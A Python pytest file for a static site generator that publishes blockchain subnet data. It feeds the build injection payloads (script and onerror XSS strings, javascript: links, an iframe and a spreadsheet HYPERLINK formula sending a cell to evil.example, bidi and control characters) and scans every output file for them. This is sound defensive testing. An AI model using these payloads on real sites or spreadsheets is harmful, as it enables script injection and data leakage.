"""A site built from hostile (but schema-valid) inputs: every file is scanned for what must never get out."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.build.run import BuildConfig, build
from generator.model.schema import PRICE_MAX, RAO_MAX, Identity, Subnet
from generator.model.snapshot import write_snapshot
from tests.conftest import REPO, TRADING, make_doc, tiny_neuron_table

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
PAYLOAD = "\u202e\u200b\x00\x0b\x1b\ufffe\U000e0041<script>alert(1)</script><img src=x onerror=alert(2)>" + FORMULA
LONG = "L" * 5000
# What no built file may contain: controls other than newline/tab/CR, bidi, zero-width, tags, BOM.
FORBIDDEN_CHARACTERS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2069\ufeff\ufffe\uffff\U000e0000-\U000e007f]"
)
# The site's own scripts, each a file of assets/ (the CSP runs nothing else); any other <script is a payload.
OWN_SCRIPT = re.compile(
    r'<script src="(?:\.\./)*assets/(?:tables|search|currency)\.js"(?: data-root="(?:\.\./)*")? defer></script>'
)
NON_FINITE = re.compile(r"\b(?:inf|nan|Infinity|NaN|-?inf TAO)\b")


def hostile_subnets() -> list[Subnet]:
    """Root, a subnet whose every string is a payload, one at the largest allowed values, one of zeros."""
    identity = Identity(
        subnet_name=PAYLOAD,
        github_repo=PAYLOAD,
        subnet_url="javascript:alert(3)",
        subnet_contact=PAYLOAD,
        discord=PAYLOAD,
        description=PAYLOAD + LONG,
        logo_url=PAYLOAD,
        additional=PAYLOAD,
    )
    hostile = Subnet(
        netuid=1,
        name=FORMULA,
        symbol=PAYLOAD,
        owner_hotkey=PAYLOAD,
        owner_coldkey="-" + PAYLOAD,
        **TRADING,
        identity=identity,
        hyperparameters={PAYLOAD: PAYLOAD, "kappa": 2**64},
    )
    largest = Subnet(
        netuid=2,
        name="@SUM(1+1)" + LONG,
        symbol="+",
        tao_in_rao=RAO_MAX,
        alpha_in_rao=RAO_MAX,
        alpha_out_rao=RAO_MAX,
        price_tao=PRICE_MAX,
        moving_price_tao=PRICE_MAX,
        tao_in_emission_rao=RAO_MAX,
        excess_tao_rao=RAO_MAX,
        alpha_in_emission_rao=RAO_MAX,
        alpha_out_emission_rao=RAO_MAX,
        ema_tao_flow_rao=-float(RAO_MAX),
        volume_rao=RAO_MAX,
        num_uids=65535,
        max_uids=65535,
        miner_count=65535,
        validator_count=65535,
    )
    zeros = Subnet(
        netuid=3,
        name="-1",
        symbol="",
        tao_in_rao=0,
        alpha_in_rao=0,
        alpha_out_rao=0,
        price_tao=0.0,
        tao_in_emission_rao=0,
        excess_tao_rao=0,
        alpha_out_emission_rao=0,
        num_uids=0,
        max_uids=0,
    )
    root = Subnet(netuid=0, name="root", symbol="τ", tao_in_rao=10**12)
    return [root, hostile, largest, zeros]


NOTE = f"""---
netuid: 1
name: {json.dumps(PAYLOAD)}
category: data
status: research
summary: {json.dumps(PAYLOAD + LONG)}
evidence:
  - claim: {json.dumps(PAYLOAD)}
    source: https://example.org/a
    date: 2026-08-01
team: {json.dumps(FORMULA)}
last_reviewed: 2026-08-01
reviewed_by: {json.dumps(PAYLOAD)}
---
{PAYLOAD}

[click](javascript:alert(4)) <iframe src=https://evil.example></iframe>
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, chart_cache) -> Path:
    """Build the hostile snapshot and note once."""
    root = tmp_path_factory.mktemp("hostile")
    table = tiny_neuron_table().model_copy(update={"hotkey": [PAYLOAD, "h1", "h2"], "coldkey": [FORMULA, "c1", "c1"]})
    write_snapshot(make_doc(subnets=hostile_subnets(), neurons={1: table}), root / "snaps")
    (root / "content" / "subnets").mkdir(parents=True)
    (root / "content" / "subnets" / "1.md").write_text(NOTE, encoding="utf-8")
    build(
        BuildConfig(
            snapshots=root / "snaps",
            content=root / "content",
            templates=REPO / "templates",
            output=root / "site",
            cache=chart_cache,
            jobs=1,
        )
    )
    return root / "site"


def _reject_constant(name: str) -> None:
    raise ValueError(f"non-finite number {name} in JSON")


def scan_parquet(path: Path) -> list[str]:
    """Return what is wrong with one Parquet table: forbidden characters in text, non-finite numbers."""
    import pyarrow.compute as pc
    import pyarrow.parquet as pq

    problems = []
    for name, column in zip(pq.read_table(path).column_names, pq.read_table(path).columns):
        if column.type == "string":
            text = "\n".join(v for v in column.to_pylist() if v is not None)
            problems += [f"{name}: forbidden character {m.group()!r}" for m in FORBIDDEN_CHARACTERS.finditer(text)][:1]
        elif column.type in ("double", "float") and pc.any(pc.or_(pc.is_nan(column), pc.is_inf(column))).as_py():
            problems.append(f"{name}: non-finite number")
    return problems


def scan(path: Path) -> list[str]:
    """Return what is wrong with one built file."""
    if path.suffix == ".parquet":
        return scan_parquet(path)
    text = path.read_text(encoding="utf-8")
    problems = [f"forbidden character {m.group()!r}" for m in FORBIDDEN_CHARACTERS.finditer(text)][:1]
    if path.suffix == ".json":
        json.loads(text, parse_constant=_reject_constant)
    elif path.suffix == ".csv":
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        problems += [
            f"formula cell {cell[:30]!r}" for cell in cells if cell[:1] and cell[0] in "=+-@" and not _number(cell)
        ]
    else:
        bare = OWN_SCRIPT.sub("", text).lower()
        problems += [f"raw payload {p}" for p in ("<script", "<iframe") if p in bare]
        problems += [f"non-finite {m.group()!r}" for m in NON_FINITE.finditer(text)][:1]
    if path.suffix == ".html":
        problems += _active_markup(BeautifulSoup(text, "html.parser"))
    return problems


def _active_markup(page: BeautifulSoup) -> list[str]:
    """Find event handlers and script links in a page (escaped payloads are harmless text)."""
    found = []
    for tag in page.find_all(True):
        found += [f"<{tag.name} {name}>" for name in tag.attrs if name.lower().startswith("on")]
        found += [
            f"<{tag.name} {name}={value[:20]}>"
            for name, value in tag.attrs.items()
            if name in ("href", "src") and value.strip().lower().startswith(("javascript:", "data:"))
        ]
    return found


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_every_built_file_is_clean(hostile_site):
    # pagefind/ is Pagefind's own engine and its compressed index of these pages' text; assets/search.js
    # shows what it finds as text only (textContent), so the index is not a page of ours to scan.
    files = sorted(
        p for p in hostile_site.rglob("*") if p.is_file() and "pagefind" not in p.relative_to(hostile_site).parts
    )
    scanned = [p for p in files if not p.name.endswith(".json.gz")]  # the downloadable input itself, gzip'd
    assert len(files) - len(scanned) == 1
    kinds = {p.suffix for p in scanned}
    assert {".html", ".xml", ".json", ".csv", ".svg", ".css", ".txt", ".parquet"} <= kinds
    assert len(scanned) >= 40, len(scanned)
    problems = {str(p.relative_to(hostile_site)): found for p in scanned if (found := scan(p))}
    assert problems == {}


def test_payloads_arrive_as_cleaned_text(hostile_site):
    page = (hostile_site / "subnets" / "1.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert BeautifulSoup(page, "html.parser").find("iframe") is None
    feed = (hostile_site / "subnets" / "1.xml").read_text(encoding="utf-8")
    assert "HYPERLINK" in feed
    edition = next((hostile_site / "editions").iterdir())
    rows = list(csv.DictReader(io.StringIO(next((edition / "downloads").glob("*.csv")).read_text(encoding="utf-8"))))
    by_netuid = {row["netuid"]: row for row in rows}
    assert by_netuid["1"]["name"] == "'" + FORMULA
    assert by_netuid["2"]["name"].startswith("'@SUM(1+1)LLL") and by_netuid["2"]["name"].endswith("…")
    assert by_netuid["3"]["name"] == "'-1"
    assert float(by_netuid["2"]["net_flow_tao_per_day"]) < 0  # a genuine negative number stays a number
    numbers = [float(row["price_tao"]) for row in rows if row["price_tao"]]
    assert max(numbers) == PRICE_MAX  # a swap price of 0 is "not trading": null with a reason, never 0
    assert {row["price_reason"] for row in rows if not row["price_tao"]} >= {"not trading: the swap price is 0"}
    api = json.loads((hostile_site / "api" / "v1" / "subnets" / "1.json").read_text(encoding="utf-8"))
    assert api["name"] == FORMULA  # JSON keeps the text; only CSV cells need the quote


def test_a_chain_of_only_root_builds(tmp_path, chart_cache):
    write_snapshot(make_doc(subnets=[Subnet(netuid=0, name="root", symbol="τ", tao_in_rao=10**12)]), tmp_path / "snaps")
    build(
        BuildConfig(
            snapshots=tmp_path / "snaps",
            content=tmp_path / "no-notes",
            templates=REPO / "templates",
            output=tmp_path / "site",
            cache=chart_cache,
            jobs=1,
        )
    )
    index = BeautifulSoup((tmp_path / "site" / "index.html").read_text(encoding="utf-8"), "html.parser")
    assert index.find("h1") is not None
    assert not list((tmp_path / "site" / "subnets").glob("*.xml"))  # root has no subnet feed
    assert json.loads((tmp_path / "site" / "api" / "v1" / "editions.json").read_text())["editions"][0]["subnets"] == 1
